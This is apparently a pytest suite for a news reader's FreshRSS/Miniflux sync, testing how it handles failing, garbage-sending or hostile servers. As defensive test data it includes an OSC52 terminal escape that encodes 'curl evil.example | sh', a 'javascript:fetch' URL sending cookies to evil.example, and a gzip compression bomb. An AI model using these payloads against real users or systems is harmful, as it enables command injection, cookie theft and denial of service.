"""A server that is down, slow, answers garbage or too much, or sends hostile text: the sync
fails in one line and the cache and the outbox stay whole, or the text arrives cleaned."""

from __future__ import annotations

import gzip
import json
import socket
from http.server import BaseHTTPRequestHandler

import httpx
import pytest

from newsroom_tui.sync import greader
from newsroom_tui.sync.detect import Account, Api, connect
from newsroom_tui.sync.engine import sync
from newsroom_tui.sync.transport import SyncError, SyncHttp
from newsroom_tui.sync_records import Flag, ItemState
from tests.sync_kit import GREADER_WAYS, WAYS, Desk, desk, polizei_feed
from tests.sync_memory import MemoryLocal
from tests.sync_server import answer_with, endless_json, silent

__all__ = ["desk"]  # the fixture, imported to be found

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


def _pull_route(desk: Desk) -> str:
    return "/v1/entries" if desk.way == "miniflux-rest" else "stream/items/ids"


def _push_route(desk: Desk) -> str:
    return "/v1/entries" if desk.way == "miniflux-rest" else "edit-tag"


async def _synced_with_a_change(desk: Desk) -> list[int]:
    """A first sync of five items, then one read here: a change waiting in the outbox."""
    numbers = desk.server.add_items(polizei_feed(desk.server), 5)
    await desk.sync()
    desk.local.mark(desk.local.id_of(numbers[0]), Flag.READ, True)
    return numbers


def _one_line(exc: pytest.ExceptionInfo[SyncError]) -> str:
    text = str(exc.value)
    assert "\n" not in text and "\x1b" not in text and len(text) < 300
    assert text.startswith("sync with ")
    return text


@pytest.mark.parametrize("desk", WAYS, indirect=True)
async def test_a_server_that_is_down_fails_in_one_line_and_keeps_everything(desk: Desk) -> None:
    await _synced_with_a_change(desk)
    async with SyncHttp() as http:
        account, _ = await desk.login(http)
    secret = desk.server.api_key if desk.way == "miniflux-rest" else desk.server.password
    before = desk.local.snapshot()
    desk.server.stop()
    async with SyncHttp() as http:
        with pytest.raises(SyncError) as failed:
            await sync(connect(http, account, secret), desk.local)
    assert "connection refused" in _one_line(failed)
    assert failed.value.network
    assert desk.local.snapshot() == before and len(desk.local.changes) == 1


@pytest.mark.parametrize("desk", GREADER_WAYS, indirect=True)
async def test_a_proxy_error_at_the_login_fails_in_one_line_and_keeps_everything(
    desk: Desk,
) -> None:
    """The web server in front of FreshRSS answers 502 while PHP is down: the login of a sync
    gets an HTML page, which is one line, not a crash."""
    await _synced_with_a_change(desk)
    async with SyncHttp() as http:
        account, _ = await desk.login(http)
    before = desk.local.snapshot()
    desk.server.behaviours["accounts/ClientLogin"] = answer_with(
        502, b"<html><body><h1>502 Bad Gateway</h1></body></html>", "text/html"
    )
    async with SyncHttp() as http:
        with pytest.raises(SyncError) as failed:
            await sync(connect(http, account, desk.server.password), desk.local)
    assert "HTTP 502 Bad Gateway, text/html" in _one_line(failed)
    assert desk.local.snapshot() == before and len(desk.local.changes) == 1


async def test_no_name_resolved_is_this_machines_reason() -> None:
    """A sync that fails because this machine is offline says so, as a feed's fetch does (the
    reader then shows it is offline rather than that the server is down)."""

    def no_dns(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("[Errno -3] Temporary failure in name resolution") from (
            socket.gaierror(-3, "Temporary failure in name resolution")
        )

    account = Account("FreshRSS", Api.GREADER, "https://rss.herne.de/api/greader.php", "redaktion")
    async with SyncHttp(transport=httpx.MockTransport(no_dns)) as http:
        with pytest.raises(SyncError) as failed:
            await sync(connect(http, account, "api-passwort-42"), MemoryLocal())
    assert "rss.herne.de" in _one_line(failed)
    assert failed.value.offline and failed.value.network


@pytest.mark.parametrize("desk", WAYS, indirect=True)
@pytest.mark.parametrize(
    "answer",
    [
        answer_with(200, b"<html><body>Wartungsarbeiten</body></html>", "text/html"),
        answer_with(200, b"[]"),
        answer_with(200, b'{"itemRefs": "viele", "entries": "viele"}'),
        answer_with(200, b'{"itemRefs": [{"id": "1"}], "continuation": '),
        answer_with(500, b"Internal Server Error", "text/plain"),
        answer_with(200, b"[" * 100_000 + b"]" * 100_000),
    ],
    ids=["html", "list", "wrong-shape", "cut-off", "500", "deep"],
)
async def test_a_garbage_pull_fails_in_one_line_and_changes_nothing(desk: Desk, answer) -> None:
    numbers = desk.server.add_items(polizei_feed(desk.server), 5)
    await desk.sync()
    desk.server.set_state(numbers[1], read=True)
    desk.server.add_items(1, 3, prefix="Neu")
    before = desk.local.snapshot()
    desk.server.behaviours[_pull_route(desk)] = answer
    with pytest.raises(SyncError) as failed:
        await desk.sync()
    _one_line(failed)
    assert desk.local.snapshot() == before


@pytest.mark.parametrize("desk", WAYS, indirect=True)
async def test_a_garbage_push_keeps_the_outbox(desk: Desk) -> None:
    await _synced_with_a_change(desk)
    before = desk.local.snapshot()
    desk.server.behaviours[_push_route(desk)] = answer_with(
        503, b"<html>Wartung</html>", "text/html"
    )
    with pytest.raises(SyncError) as failed:
        await desk.sync()
    assert "503" in _one_line(failed)
    assert desk.local.snapshot() == before and len(desk.local.changes) == 1


@pytest.mark.parametrize("desk", GREADER_WAYS, indirect=True)
async def test_an_edit_tag_not_confirmed_keeps_the_outbox(desk: Desk) -> None:
    await _synced_with_a_change(desk)
    desk.server.behaviours["edit-tag"] = answer_with(200, b"Error", "text/plain")
    with pytest.raises(SyncError) as failed:
        await desk.sync()
    assert "did not confirm edit-tag" in _one_line(failed)
    assert len(desk.local.changes) == 1


@pytest.mark.parametrize("desk", WAYS, indirect=True)
async def test_an_endless_answer_is_cut_at_the_size_limit(desk: Desk) -> None:
    await _synced_with_a_change(desk)
    before = desk.local.snapshot()
    desk.server.behaviours[_pull_route(desk)] = endless_json
    async with SyncHttp(max_bytes=1024 * 1024) as http:
        with pytest.raises(SyncError) as failed:
            await desk.sync(http)
    assert "too large (over 1 MB)" in _one_line(failed)
    items, states, changes, cursor = before
    if desk.way != "miniflux-rest":  # pushed (the server has it), so it left the outbox
        changes = []
    assert desk.local.snapshot() == (items, states, changes, cursor)


@pytest.mark.parametrize("desk", ["freshrss", "miniflux-rest"], indirect=True)
async def test_a_silent_server_times_out(desk: Desk) -> None:
    await _synced_with_a_change(desk)
    desk.server.behaviours[_pull_route(desk)] = silent(desk.server)
    async with SyncHttp(timeout=0.3) as http:
        with pytest.raises(SyncError) as failed:
            await desk.sync(http)
    assert "timed out" in _one_line(failed)


@pytest.mark.parametrize("desk", ["freshrss"], indirect=True)
async def test_the_whole_sync_has_a_deadline(desk: Desk) -> None:
    await _synced_with_a_change(desk)
    desk.server.behaviours["stream/items/ids"] = silent(desk.server)
    with pytest.raises(SyncError) as failed:
        await desk.sync(deadline=0.5)
    assert "no complete sync within 0.5 s" in _one_line(failed)


@pytest.mark.parametrize("desk", ["freshrss"], indirect=True)
async def test_a_repeated_continuation_ends_the_sync(desk: Desk) -> None:
    page = {"itemRefs": [{"id": "1"}], "continuation": "immer-wieder"}
    desk.server.behaviours["stream/items/ids"] = answer_with(200, json.dumps(page).encode())
    with pytest.raises(SyncError) as failed:
        await desk.sync()
    assert "repeats its continuation" in _one_line(failed)


@pytest.mark.parametrize("desk", GREADER_WAYS, indirect=True)
async def test_a_broken_item_fails_alone(desk: Desk) -> None:
    numbers = desk.server.add_items(polizei_feed(desk.server), 2)
    good = {
        "id": f"tag:google.com,2005:reader/item/{numbers[0]:016x}",
        "title": "Polizei Bochum: Einbruch in Wattenscheid",
        "canonical": [{"href": "https://www.bochum.de/einbruch.html"}],
        "origin": {"streamId": "feed/1"},
        "categories": [],
    }
    contents = {"items": [good, {"title": "ohne Nummer"}, "kaputt", {"id": ["1"]}]}
    desk.server.behaviours["stream/items/contents"] = answer_with(
        200, json.dumps(contents).encode()
    )
    report = await desk.sync()
    assert report.skipped == 3 and report.new_items == 1
    (item,) = desk.local.items.values()
    assert item.title == "Polizei Bochum: Einbruch in Wattenscheid"


@pytest.mark.parametrize("desk", WAYS, indirect=True)
async def test_hostile_titles_names_and_urls_arrive_cleaned(desk: Desk) -> None:
    server = desk.server
    feed = server.add_feed(f"Polizei Bochum{OSC52}", "https://www.bochum.de/rss.xml", "Polizei")
    server.feeds[feed].category = f"Blaulicht\u202e{OSC52}"
    server.feeds[feed].url = f"https://www.bochum.de/rss{OSC52}.xml"
    number = server.add_item(
        feed,
        f"Festnahme in Herne{OSC52}\x9b2J\u2066",
        "javascript:fetch('https://evil.example/?'+document.cookie)",
        f"<p>Text{OSC52}</p>",
    )
    server.items[number].author = f"Pressestelle\x1b[31m{OSC52}"

    await desk.sync()

    (synced_feed,) = desk.local.feeds.values()
    assert synced_feed.title == "Polizei Bochum" and synced_feed.category == "Blaulicht"
    assert synced_feed.url is None  # refused, not made up
    item = desk.local.items[desk.local.id_of(number)]
    assert item.title == "Festnahme in Herne"
    assert item.url is None and item.author == "Pressestelle"
    assert "\x1b" not in item.html and "52;" not in item.html


@pytest.mark.parametrize("desk", ["freshrss"], indirect=True)
async def test_more_ids_than_the_limit_take_the_newest_and_infer_nothing(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    numbers = desk.server.add_items(polizei_feed(desk.server), 30)
    await desk.sync()
    newer = desk.server.add_items(1, 100, prefix="Neu")
    monkeypatch.setattr(greader, "ITEMS_MAX", 50)
    monkeypatch.setattr(greader, "IDS_PAGE", 20)
    report = await desk.sync()
    assert report.notice and report.new_items == 50
    assert {i.number for i in desk.local.items} == {*numbers, *newer[-50:]}
    # the older items fell off the cut list: that does not make them read
    assert all(desk.local.states[desk.local.id_of(n)] == ItemState(False, False) for n in numbers)


@pytest.mark.parametrize("desk", ["freshrss"], indirect=True)
async def test_a_compression_bomb_is_cut_at_the_size_limit(desk: Desk) -> None:
    bomb = gzip.compress(b'{"itemRefs": [' + b" " * 50_000_000 + b"]}", compresslevel=9)
    assert len(bomb) < 100_000

    def behaviour(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Encoding", "gzip")
        handler.send_header("Content-Length", str(len(bomb)))
        handler.end_headers()
        handler.wfile.write(bomb)

    desk.server.behaviours["stream/items/ids"] = behaviour
    async with SyncHttp(max_bytes=1024 * 1024) as http:
        with pytest.raises(SyncError) as failed:
            await desk.sync(http)
    assert "too large (over 1 MB)" in _one_line(failed)
